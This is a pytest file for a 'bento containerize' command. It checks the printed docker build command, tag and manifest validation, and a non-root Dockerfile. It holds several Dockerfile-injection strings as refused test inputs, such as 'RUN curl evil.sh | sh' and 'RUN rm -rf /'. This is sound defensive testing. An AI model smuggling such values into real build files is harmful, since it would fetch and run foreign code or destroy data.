"""`bento containerize` and the bundle's Dockerfile: what it installs and runs, and that no user
value can add instructions to it."""
import os
import shlex
import shutil
import stat

import pytest

from bento.bundle import templates
from bento.bundle.manifest import write_manifest
from bento.exceptions import InvalidArgument


def _engine(tmp_path, monkeypatch, info_ok):
    """A `docker` on PATH whose daemon answers (or not), logging each build's arguments one per line."""
    bindir = tmp_path / "bin"
    bindir.mkdir()
    log = tmp_path / "docker.log"
    script = bindir / "docker"
    refuse = "echo 'Cannot connect to the Docker daemon at unix:///var/run/docker.sock.' >&2; exit 1"
    info = "exit 0" if info_ok else refuse
    script.write_text(f"#!/bin/sh\nif [ \"$1\" = info ]; then {info}; fi\n"
                      f"for a in \"$@\"; do echo \"$a\" >> {log}; done\necho 'Successfully built'\n")
    script.chmod(script.stat().st_mode | stat.S_IEXEC)
    monkeypatch.setenv("PATH", str(bindir))
    return log


def test_without_a_reachable_engine_it_prints_the_exact_build_command(run, bundle, toy, tmp_path, monkeypatch):
    _engine(tmp_path, monkeypatch, info_ok=False)
    out = run("containerize", bundle)
    assert out.exit_code == 0, out.stderr
    assert "not built: no container engine is reachable (docker info: Cannot connect to the Docker daemon" in out.stderr
    assert "podman: not installed" in out.stderr
    assert shlex.split(out.stdout) == [
        "docker", "build", "-t", f"toyservice:{toy.version}", "--label", "bento.name=ToyService",
        "--label", f"bento.version={toy.version}", bundle]


def test_with_an_engine_it_builds_and_prints_the_tag(run, toy, tmp_path, monkeypatch):
    toy.save(labels={"stage": "prod"})
    log = _engine(tmp_path, monkeypatch, info_ok=True)
    out = run("containerize", "ToyService:latest", "-t", "registry.local:5000/toy:v1")
    assert out.exit_code == 0, out.stderr
    assert out.stdout.strip() == "registry.local:5000/toy:v1"
    args = log.read_text().splitlines()
    assert args[:3] == ["build", "-t", "registry.local:5000/toy:v1"] and "bento.label.stage=prod" in args
    assert args[-1].endswith(f"ToyService/{toy.version}")


@pytest.mark.platform("needs the docker client and no reachable engine (with one it would build)")
def test_a_real_docker_client_without_a_daemon(run, bundle):
    from bento_deploy.container import find_engine

    if shutil.which("docker") is None or find_engine()[0] is not None:
        pytest.skip("needs the docker client and no reachable engine (here it would build)")
    out = run("containerize", bundle)
    assert out.exit_code == 0 and out.stdout.startswith("docker build -t toyservice:")


def test_bad_tag_and_broken_bundles_are_refused(run, bundle, tmp_path):
    out = run("containerize", bundle, "-t", "Toy Service:1")
    assert out.exit_code == 2 and "image tag 'Toy Service:1' is not a container image reference" in out.stderr
    with open(os.path.join(bundle, "README.md"), "a") as f:
        f.write("tampered\n")
    out = run("containerize", bundle, "--dry-run")
    assert out.exit_code == 1 and "README.md" in out.stderr and "MANIFEST.sha256" in out.stderr
    os.remove(os.path.join(bundle, "Dockerfile"))
    write_manifest(bundle)
    out = run("containerize", bundle, "--dry-run")
    assert out.exit_code == 1 and "cannot be built into an image: no Dockerfile" in out.stderr


def test_dockerfile_installs_only_the_requirements_as_a_non_root_user(bundle):
    lines = open(os.path.join(bundle, "Dockerfile")).read().splitlines()
    runs = [ln for ln in lines if ln.startswith("RUN ")]
    assert [r for r in runs if "pip" in r] == ["RUN pip install --no-cache-dir -r /bundle/requirements.txt"]
    assert lines.index("USER bento") > lines.index(runs[-1])  # installs as root, serves as `bento`
    assert "EXPOSE 5000" in lines and 'ENTRYPOINT ["/bundle/docker-entrypoint.sh"]' in lines
    entry = open(os.path.join(bundle, "docker-entrypoint.sh")).read()
    assert 'exec bento serve /bundle --host 0.0.0.0 "$@"' in entry and "BENTO_SERVER_WORKERS" in entry
    assert os.stat(os.path.join(bundle, "docker-entrypoint.sh")).st_mode & stat.S_IXUSR


@pytest.mark.parametrize("image", ['python:3.11\nRUN curl evil.sh | sh', 'python:3.11" \\', "python:3.11 AS x",
                                   "python:3.11\rUSER root", "'python'"])
def test_dockerfile_generation_refuses_injected_base_images(image):
    with pytest.raises(InvalidArgument, match="is not a container image reference"):
        templates.dockerfile(image, has_setup_sh=False, has_conda=False)


@pytest.mark.parametrize("labels", [{"stage": "prod\nRUN rm -rf /"}, {"stage": 'a"b'}, {'x"\nUSER root': "v"},
                                    {"stage": "x' && curl evil"}])
def test_labels_with_newlines_or_quotes_never_reach_the_image(toy, tmp_path, labels):
    with pytest.raises(InvalidArgument, match="invalid label"):
        toy.save_to_dir(str(tmp_path / "b"), labels=labels)
    assert not (tmp_path / "b").exists()


def test_env_values_with_newlines_or_quotes_are_refused(tmp_path):
    from bento import env

    for image in ['python:3.11"\nRUN x', "python:3.11\nUSER root"]:
        with pytest.raises(InvalidArgument, match="docker_base_image"):
            env(docker_base_image=image)
    with pytest.raises(InvalidArgument, match="is not a pip requirement"):
        env(pip_packages=["numpy\nRUN curl evil"])
